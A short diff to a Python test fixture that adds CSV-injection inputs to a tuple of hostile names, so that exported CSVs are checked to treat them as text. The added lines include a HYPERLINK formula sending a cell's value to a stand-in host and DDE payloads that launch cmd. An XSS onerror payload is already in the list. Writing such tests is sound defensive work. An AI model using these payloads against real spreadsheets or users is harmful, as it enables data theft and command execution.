@@ -50,6 +50,13 @@ HOSTILE_NAMES = (
     "<img src=x onerror=alert(1)>",
     "**bold**",
     "Fees of $1 + $2 :red[red]",
+    # What a spreadsheet runs (OWASP's CSV injection starts): the CSVs must write them as text.
+    '=HYPERLINK("https://evil.example/?d="&B2,"Open the report")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1 tab",
+    "\r=1+1 return",
 )
 
 #: Roughly how government uses Notify: many local and central services, fewer others.
